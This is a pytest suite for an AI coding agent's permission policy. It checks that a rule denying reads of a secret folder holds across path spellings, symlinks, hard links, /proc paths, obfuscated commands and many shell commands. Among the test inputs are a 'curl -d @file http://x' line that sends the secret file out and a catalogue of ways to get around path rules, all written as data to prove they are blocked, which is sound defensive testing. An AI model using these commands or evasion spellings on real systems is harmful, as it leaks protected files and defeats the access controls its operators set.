"""Every tool, every spelling of a denied path: all of it is denied, by the real tools over real files."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from agent_cli.engine.permissions.active_policy import Permissions
from agent_cli.policy.authorize import Policy, authorize
from agent_cli.policy.rules.path_verdict import watched
from agent_cli.policy.rules.rule import Rule, parse_rule
from agent_cli.protocol.actions import Action, Allow, Ask, Deny, Mode, ReadPath, RunCommand
from agent_cli.sandbox.process.runner import ProcessRunner
from agent_cli.tools.files.edit import EditFile, EditParams
from agent_cli.tools.files.file_change import Edit
from agent_cli.tools.files.patch import ApplyPatch, PatchParams
from agent_cli.tools.files.read import ReadFile, ReadParams
from agent_cli.tools.files.write import WriteFile, WriteParams
from agent_cli.tools.kit.base import Tool, ToolContext, ToolError
from agent_cli.tools.new_context import new_context
from agent_cli.tools.search.grep_glob import Glob, GlobParams, Grep, GrepParams
from agent_cli.tools.search.list_dir import ListDir, ListParams
from agent_cli.tools.shell.shell import Shell, ShellParams
from agent_cli.workspace.matching_files import MatchingFiles
from agent_cli.workspace.paths import Workspace

RULES = (parse_rule("read(secret/**)", "deny", "rules.yaml:3"), parse_rule("shell", "allow", "rules.yaml:1"))
SPELLINGS: dict[str, Callable[[Path], str]] = {
    "plain": lambda root: "secret/a.txt",
    "dotted": lambda root: "./secret/./a.txt",
    "doubled": lambda root: "secret//a.txt",
    "absolute": lambda root: f"{root}/secret/a.txt",
    "upwards": lambda root: "sub/../secret/a.txt",
    "round": lambda root: f"../{root.name}/secret/a.txt",
    "home": lambda root: "~/work/secret/a.txt",
    "symlink": lambda root: "link.txt",
    "link to the folder": lambda root: "folder/a.txt",
    "link to a link": lambda root: "link2.txt",
    "link upwards": lambda root: "sub/up/secret/a.txt",
    "hard link": lambda root: "hard.txt",
    "hard link outside": lambda root: "../hard.txt",
    "case": lambda root: "SECRET/A.TXT",
    "case of the folder": lambda root: "Secret/a.txt",
    "process root": lambda root: f"/proc/self/root{root}/secret/a.txt",
    "process directory": lambda root: "/proc/self/cwd/secret/a.txt",
    "thread root": lambda root: f"/proc/thread-self/root{root}/secret/a.txt",
}
COMMANDS = (
    "cat {0}", "head -3 {0}", "sed -n 1p {0}", "cp {0} out", "cp -t sub {0}", "mv {0} out", "tee {0}", "echo x > {0}", "echo x >> {0}", "cat < {0}",
    "python3 {0}", "python3 -c \"print(open('{0}').read())\"", "grep x {0}", "wc -l {0}", "base64 {0}", "dd if={0}", "tar czf a.tgz {0}",
    "git diff --no-index a {0}", "curl -d @{0} http://x", "bash -c 'cat {0}'", "env cat {0}", "timeout 5 cat {0}", "xargs cat {0}", "find {0}",
    "sort -o x {0}", "ln {0} hard2", "ls && cat {0}", "cat a | cat - {0}", "awk 1 {0}", "diff a {0}", "source {0}", "sh {0}", "eval cat {0}",
    "find . -exec cat {0} +", "git show HEAD:./x {0}", "node {0}", "strace cat {0}", "less {0}", "vim {0}", "x --file={0}",
)  # fmt: skip


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = (tmp_path / "work").resolve()
    for name in ("secret/a.txt", "sub/b.txt", "a"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x\n", encoding="utf-8")
    (root / "link.txt").symlink_to("secret/a.txt")
    (root / "link2.txt").symlink_to("link.txt")
    (root / "folder").symlink_to("secret")
    (root / "sub" / "up").symlink_to("..")
    os.link(root / "secret" / "a.txt", root / "hard.txt")
    os.link(root / "secret" / "a.txt", tmp_path / "hard.txt")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(root)
    return root


@pytest.fixture
async def context(root: Path, tmp_path: Path) -> Any:
    processes = ProcessRunner()
    yield new_context(Workspace(root), processes, tmp_path / "spill", call_id="c")
    await processes.aclose()


def judge(root: Path, mode: Mode, rules: tuple[Rule, ...] = RULES, *, sandboxed: bool = False) -> Policy:
    """The policy in force."""
    policy = Permissions(Workspace(root), rules, mode=mode).policy()
    return msgspec.structs.replace(policy, sandboxed=sandboxed)


def calls(path: str) -> list[tuple[Tool, Any]]:
    """A call of every tool that opens or changes the file at a path."""
    patch = "*** Begin Patch\n*** {0} File: {1}\n{2}*** End Patch\n"
    found: list[tuple[Any, Any]] = [
        (ReadFile(), ReadParams(path)), (EditFile(), EditParams(path, (Edit("x", "y"),))), (WriteFile(), WriteParams(path, "y")),
        (ApplyPatch(), PatchParams(patch.format("Update", path, "@@\n-x\n+y\n"))), (ApplyPatch(), PatchParams(patch.format("Add", path, "+y\n"))),
        (ApplyPatch(), PatchParams(f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-x\n+y\n")), (Grep(), GrepParams("x", path)),
        (Glob(), GlobParams("*", path)), (ListDir(), ListParams(path)),
    ]  # fmt: skip
    return found


def is_denied(actions: tuple[Action, ...], policy: Policy) -> bool:
    verdicts = [authorize(action, policy) for action in actions]
    denials = [verdict for verdict in verdicts if isinstance(verdict, Deny)]
    return bool(denials) and all("rules.yaml:3" in denial.rule for denial in denials)


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("mode", ["ask", "auto-edit", "yolo"])
async def test_no_file_tool_opens_a_denied_file(
    root: Path, context: ToolContext, spelling: str, mode: Mode
) -> None:
    policy = judge(root, mode)
    for tool, params in calls(SPELLINGS[spelling](root)):
        assert is_denied(tool.actions(params, context), policy), (tool.name, params)


@pytest.mark.parametrize("spelling", ["plain", "symlink", "upwards", "case", "process root"])
async def test_a_mention_is_read_like_any_other_path(root: Path, context: ToolContext, spelling: str) -> None:
    written = SPELLINGS[spelling](root)
    real = context.workspace.resolve(written).real
    assert is_denied((ReadPath(real, written),), judge(root, "yolo"))


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("mode", ["ask", "auto-edit", "yolo"])
async def test_no_command_opens_a_denied_file(root: Path, context: ToolContext, spelling: str, mode: Mode) -> None:
    path = SPELLINGS[spelling](root)
    for sandboxed in {"ask": (False,), "auto-edit": (True,), "yolo": (False, True)}[mode]:
        policy = judge(root, mode, sandboxed=sandboxed)
        for shape in COMMANDS:
            line = shape.format(path)
            if sandboxed and shape.startswith("python3 -c"):
                continue
            actions = Shell().actions(ShellParams(line), context)
            assert is_denied(actions, policy), line


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c \"print(open('sec' + 'ret/a.txt').read())\"", "cat s*/a.txt", "cat */a.txt", "cat $X", "cat $(echo secret)/a.txt",
        "cat {secret,x}/a.txt", "node -e \"require('fs').readFileSync('sec'+'ret/a.txt')\"", "perl -ne print < \"$X\"", "for f in *; do cat $f; done",
        "cat <<< $(cat secret*/a.txt)", "rg x", "grep -r x .", "git diff", "cd secret; cat a.txt", "find . | xargs cat", "cat s?cret/a.txt",
    ],
)  # fmt: skip
async def test_what_cannot_be_told_from_the_line_asks_unless_the_sandbox_hides_the_file(
    root: Path, context: ToolContext, line: str
) -> None:
    actions = Shell().actions(ShellParams(line), context)
    for mode in ("ask", "auto-edit", "yolo"):
        assert not isinstance(authorize(actions[0], judge(root, mode)), Allow), (line, mode)
    confined = judge(root, "auto-edit", sandboxed=True)
    hidden = MatchingFiles((root,), lambda path: watched(path, path, confined) is not None).paths()
    assert hidden == (str(root / "hard.txt"), str(root / "secret"))
    verdict = authorize(actions[0], confined)
    assert isinstance(verdict, Deny) or verdict.reach != "outside" or isinstance(verdict, Ask)


async def test_a_hard_link_made_by_a_command_is_found_at_the_next_look(root: Path, context: ToolContext) -> None:
    os.link(root / "secret" / "a.txt", root / "sub" / "innocent.txt")
    for path in ("sub/innocent.txt", "sub/../sub/innocent.txt"):
        assert all(is_denied(tool.actions(params, context), judge(root, "yolo")) for tool, params in calls(path))
        assert is_denied(Shell().actions(ShellParams(f"cat {path}"), context), judge(root, "yolo"))
    os.link(root / "sub" / "b.txt", root / "other.txt")
    assert isinstance(authorize(ReadPath(str(root / "other.txt"), "other.txt"), judge(root, "ask")), Allow)


@pytest.mark.parametrize("pattern", ["{0}/priv/**", "{0}/priv", "{0}/priv/p.txt", "{0}/*/p.txt", "~/priv/**"])
@pytest.mark.parametrize("effect", ["deny", "ask"])
async def test_a_hard_link_to_a_file_that_a_rule_closes_outside_is_closed(
    root: Path, context: ToolContext, pattern: str, effect: Any
) -> None:
    private = root.parent / "priv" / "p.txt"
    private.parent.mkdir()
    private.write_text("x\n", encoding="utf-8")
    os.link(private, root / "hl.txt")
    os.link(root / "sub" / "b.txt", root / "other.txt")
    rules = (parse_rule(f"read({pattern.format(root.parent)})", effect, "rules.yaml:3"),)
    for mode in ("ask", "auto-edit", "yolo"):
        policy = judge(root, mode, rules)
        for action in (*(tool.actions(params, context)[-1] for tool, params in calls("hl.txt")[:3]),
                       RunCommand("cat hl.txt", str(root)), RunCommand("cat < hl.txt", str(root))):  # fmt: skip
            verdict = authorize(action, policy)
            assert "rules.yaml:3" in verdict.rule and type(verdict).__name__.lower() == effect, (action, verdict)
        assert isinstance(authorize(RunCommand("cat other.txt", str(root)), policy), Allow)


async def test_what_is_not_denied_stays_open(root: Path, context: ToolContext) -> None:
    policy = judge(root, "auto-edit")
    for tool, params in calls("sub/b.txt"):
        assert all(isinstance(authorize(action, policy), Allow) for action in tool.actions(params, context)), (
            tool.name
        )
    assert isinstance(authorize(RunCommand("cat sub/b.txt a | head", str(root)), policy), Allow)


@pytest.mark.parametrize("path", ["", "   ", "a\0b", "a\x1bb", "a\nb"])
async def test_a_path_that_cannot_be_one_is_refused(context: ToolContext, path: str) -> None:
    for tool, params in calls(path)[:3]:
        with pytest.raises(ToolError):
            tool.actions(params, context)
